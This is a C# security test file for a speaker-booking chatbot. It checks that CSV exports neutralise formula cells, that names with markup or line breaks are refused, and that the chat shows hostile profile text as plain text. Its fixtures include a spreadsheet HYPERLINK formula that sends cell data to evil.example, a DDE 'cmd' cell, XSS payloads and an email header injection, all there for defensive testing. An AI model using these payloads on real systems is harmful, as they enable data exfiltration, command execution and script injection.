using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Markdig;
using SpeakerBot.Domain;
using SpeakerBot.Domain.Coordinators;
using SpeakerBot.Storage.Import;

namespace SpeakerBot.Host.Tests.Admin;

/// <summary>Text typed by people, in a running host: spreadsheet-safe exports, plain names, chat that shows markup as text (decision 091).</summary>
[Trait("Category", "Security")]
public sealed class UntrustedTextTests : IAsyncLifetime
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";
    private const string HostileBio = "[cliquez ici](javascript:alert(1)) <a href=\"http://evil.example\">site</a> ![img](http://evil.example/p.png) <img src=x onerror=alert(1)> *gras*";

    private readonly AdminHost _host = new();
    private string _national = string.Empty;

    public async Task InitializeAsync() => _national = await _host.TokenAsync("nat@reseau.example", CoordinatorRole.National);

    public async Task DisposeAsync() => await _host.DisposeAsync();

    [Fact]
    public async Task Export_csv_neutralises_formula_cells_and_imports_back_unchanged()
    {
        using var client = _host.Client(_national);
        var record = new JsonObject
        {
            ["id"] = "inj-csv", ["firstName"] = Formula, ["lastName"] = "-2+3", ["headline"] = "@SUM(A1:A9)", ["employer"] = "+cmd|' /C calc'!A0",
            ["city"] = "'=1+1", ["sector"] = "aeronautique", ["region"] = "mayotte", ["lat"] = -12.78, ["lon"] = 45.23,
            ["phone"] = "+33 6 12 34 56 78", ["email"] = "inj@example.org",
        };
        var imported = await client.PostAsync(new Uri("api/admin/speakers/import?format=jsonl", UriKind.Relative), new StringContent(record.ToJsonString(), Encoding.UTF8, "application/x-ndjson"));
        Assert.Equal(1, (await AdminHost.JsonAsync(imported)).GetProperty("written").GetInt32());

        var csv = await client.GetStringAsync(new Uri("api/admin/speakers/export?format=csv&includeContact=true", UriKind.Relative));

        var row = Row(csv, "inj-csv");
        Assert.Equal("'" + Formula, row["firstName"]);
        Assert.Equal("'-2+3", row["lastName"]);
        Assert.Equal("'@SUM(A1:A9)", row["headline"]);
        Assert.Equal("'+cmd|' /C calc'!A0", row["employer"]);
        Assert.Equal("''=1+1", row["city"]);
        Assert.Equal("'+33 6 12 34 56 78", row["phone"]);
        Assert.Equal("-12.78", row["lat"]);
        Assert.DoesNotContain(csv.Split('\n').SelectMany(l => CsvText.Read(l, ',').SelectMany(r => r.Cells)), c => c.Length > 0 && c[0] is '=' or '+' or '-' or '@' or '\t' && !double.TryParse(c, System.Globalization.CultureInfo.InvariantCulture, out _));

        // The file a coordinator edited and imports back gives the same profile, not one with quotes piling up.
        var reimported = await client.PostAsync(new Uri("api/admin/speakers/import?format=csv", UriKind.Relative), new StringContent(csv, Encoding.UTF8, "text/csv"));
        Assert.Empty((await AdminHost.JsonAsync(reimported)).GetProperty("rejected").EnumerateArray());
        var speaker = (await _host.Speakers.GetAsync("inj-csv"))!;
        Assert.Equal((Formula, "-2+3", "@SUM(A1:A9)", "'=1+1", "+33 6 12 34 56 78"), (speaker.FirstName, speaker.LastName, speaker.Headline, speaker.City, speaker.Contact?.Phone));
        Assert.Equal(csv, await client.GetStringAsync(new Uri("api/admin/speakers/export?format=csv&includeContact=true", UriKind.Relative)));
    }

    [Fact]
    public async Task Dashboard_csv_neutralises_a_formula_network_and_the_page_shows_markup_as_text()
    {
        await _host.AddSpeakersAsync(
            AdminHost.Speaker("inj-n1", "mayotte", "sante", network: Formula),
            AdminHost.Speaker("inj-n2", "mayotte", "sante", network: "<img src=x onerror=alert(1)>"));
        await _host.AddBookingAsync("inj-n1", new DateOnly(2025, 3, 11), BookingStatus.Held);
        await _host.AddBookingAsync("inj-n2", new DateOnly(2025, 3, 12), BookingStatus.Held);
        using var login = await BackOffice.BackOfficeBrowser.SignInClientAsync(_host.Factory, "nat@reseau.example");
        var html = await login.GetStringAsync(new Uri("admin/impact", UriKind.Relative));

        var csv = await login.GetStringAsync(new Uri("admin/csv/networks", UriKind.Relative));

        var networks = CsvText.Read(csv, ',').Skip(1).Select(r => r.Cells[0]).ToList();
        Assert.Contains("'" + Formula, networks);
        Assert.DoesNotContain(Formula, networks);
        Assert.Contains("<img src=x onerror=alert(1)>", networks);
        Assert.Contains("&lt;img src=x onerror=alert(1)&gt;", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x", html, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("fr", "firstName", "Ombeline <b>", "Un nom s&#39;écrit en texte simple : « &lt; » n&#39;est pas accepté")]
    [InlineData("fr", "lastName", "[Testeuse](javascript:alert(1))", "Un nom s&#39;écrit en texte simple : « [ » n&#39;est pas accepté")]
    [InlineData("en", "lastName", "Testeuse\r\nBcc: evil@evil.example", "A name is plain text: &quot;U+000D&quot; is not accepted")]
    public async Task Join_refuses_a_name_with_markup_or_line_breaks_with_a_message_on_that_field(string lang, string field, string value, string message)
    {
        using var client = new HttpClient(new HttpClientHandler { AllowAutoRedirect = false }) { BaseAddress = _host.Address };
        var form = new Dictionary<string, string>
        {
            ["lang"] = lang, ["firstName"] = "Ombeline", ["lastName"] = "Testeuse", ["headline"] = "Ingénieure drones", ["sector"] = "aeronautique",
            ["region"] = "occitanie", ["email"] = "ombeline.test@example.org", ["consent"] = "yes",
        };
        form[field] = value;

        var response = await client.PostAsync(new Uri("join", UriKind.Relative), new FormUrlEncodedContent(form));
        var html = await response.Content.ReadAsStringAsync();

        Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
        Assert.Contains($"id=\"{field}-error\">{message}", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>", html, StringComparison.Ordinal);
        await foreach (var speaker in _host.Speakers.ReadAllAsync())
        {
            Assert.NotEqual("ombeline.test@example.org", speaker.Contact?.Email);
        }
    }

    [Fact]
    public async Task Import_refuses_a_name_with_markup_naming_the_line_and_the_field()
    {
        using var client = _host.Client(_national);
        const string Csv = "id,firstName,lastName,headline,sector,region\ninj-i1,[Zoé](http://evil.example),Hamon,Ingénieure,numerique,bretagne\ninj-i2,Zoé,Hamon,Ingénieure,numerique,bretagne\n";

        var report = await AdminHost.JsonAsync(await client.PostAsync(new Uri("api/admin/speakers/import", UriKind.Relative), new StringContent(Csv, Encoding.UTF8, "text/csv")));

        var rejected = Assert.Single(report.GetProperty("rejected").EnumerateArray());
        Assert.Equal(2, rejected.GetProperty("line").GetInt32());
        Assert.StartsWith("firstName '[Zoé](http://evil.example)' contains '['", rejected.GetProperty("reason").GetString(), StringComparison.Ordinal);
        Assert.Null(await _host.Speakers.GetAsync("inj-i1"));
        Assert.NotNull(await _host.Speakers.GetAsync("inj-i2"));
    }

    [Fact]
    public async Task Chat_shows_a_hostile_profile_as_text_without_links_images_or_html()
    {
        // Stored before names were checked (or by a future path that forgets to): the chat must still show it as text.
        var hostile = AdminHost.Speaker("inj-chat", "mayotte", "aeronautique") with
        {
            FirstName = "[Zélie](javascript:alert(1))",
            LastName = "<img src=x onerror=alert(1)>",
            Headline = "Ingénieure ![img](http://evil.example/p.png)",
            Employer = "<a href=\"http://evil.example\">Evil</a>",
            City = "Mamoudzou",
            Department = "976",
            Lat = -12.78,
            Lon = 45.23,
            Topics = ["stratosphère", "[clic](http://evil.example)"],
            Bio = HostileBio,
            PhotoUrl = "javascript:alert(1)",
        };
        await _host.AddSpeakersAsync(hostile);
        using var client = _host.Client();

        var search = await TurnAsync(client, "m1", "une ingénieure aéronautique à Mamoudzou");
        var card = search.SelectMany(Cards).FirstOrDefault(c => c.GetProperty("title").GetString()!.Contains("Zélie", StringComparison.Ordinal));
        Assert.True(card.ValueKind == JsonValueKind.Object, "the hostile profile must be among the cards for the test to mean anything: " + string.Join(" | ", search.SelectMany(Texts)));
        var profileButton = card.GetProperty("buttons").EnumerateArray().Single(b => b.GetProperty("value").GetString()!.Contains("profile", StringComparison.Ordinal));
        var profile = await TurnAsync(client, "m2", profileButton.GetProperty("value").GetString()!);

        var shown = search.Concat(profile).SelectMany(Texts).ToList();
        Assert.Contains(shown, t => Plain(t).Contains("[cliquez ici](javascript:alert(1)) <a href=\"http://evil.example\">site</a> ![img](http://evil.example/p.png) <img src=x onerror=alert(1)> *gras*", StringComparison.Ordinal));
        Assert.Contains(shown, t => Plain(t) == "[Zélie](javascript:alert(1)) <img src=x onerror=alert(1)>");
        foreach (var text in shown)
        {
            var html = Markdown.ToHtml(text);
            Assert.DoesNotContain("<a", html, StringComparison.Ordinal);
            Assert.DoesNotContain("<img", html, StringComparison.Ordinal);
            Assert.DoesNotContain("<em>", html, StringComparison.Ordinal);
        }

        Assert.DoesNotContain(search.Concat(profile).SelectMany(Cards), c => c.TryGetProperty("images", out _));
    }

    private static Dictionary<string, string> Row(string csv, string id)
    {
        var rows = CsvText.Read(csv.TrimStart('\uFEFF'), ',').ToList();
        var header = rows[0].Cells;
        var cells = rows.Single(r => r.Cells[0] == id).Cells;
        return header.Select((name, i) => (name, i)).ToDictionary(p => p.name, p => cells[p.i], StringComparer.Ordinal);
    }

    private static async Task<List<JsonElement>> TurnAsync(HttpClient client, string id, string text)
    {
        var activity = new JsonObject
        {
            ["type"] = "message", ["id"] = id, ["text"] = text, ["channelId"] = "emulator", ["deliveryMode"] = "expectReplies", ["locale"] = "fr-FR",
            ["from"] = new JsonObject { ["id"] = "u-inj" }, ["recipient"] = new JsonObject { ["id"] = "bot" },
            ["conversation"] = new JsonObject { ["id"] = "c-inj" }, ["serviceUrl"] = "http://127.0.0.1:9/",
        };
        var response = await client.PostAsync(new Uri("api/messages", UriKind.Relative), new StringContent(activity.ToJsonString(), Encoding.UTF8, "application/json"));
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        return [.. (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("activities").EnumerateArray()];
    }

    private static IEnumerable<JsonElement> Cards(JsonElement activity) =>
        activity.TryGetProperty("attachments", out var attachments) ? attachments.EnumerateArray().Select(a => a.GetProperty("content")) : [];

    private static IEnumerable<string> Texts(JsonElement activity)
    {
        if (activity.TryGetProperty("text", out var text) && text.GetString() is { } t)
        {
            yield return t;
        }

        foreach (var card in Cards(activity))
        {
            foreach (var name in new[] { "title", "subtitle", "text" })
            {
                if (card.TryGetProperty(name, out var value) && value.GetString() is { } v)
                {
                    yield return v;
                }
            }
        }
    }

    // What a markdown client shows: the rendered paragraphs' text.
    private static string Plain(string markdown) => WebUtility.HtmlDecode(Markdown.ToPlainText(markdown)).Trim();
}
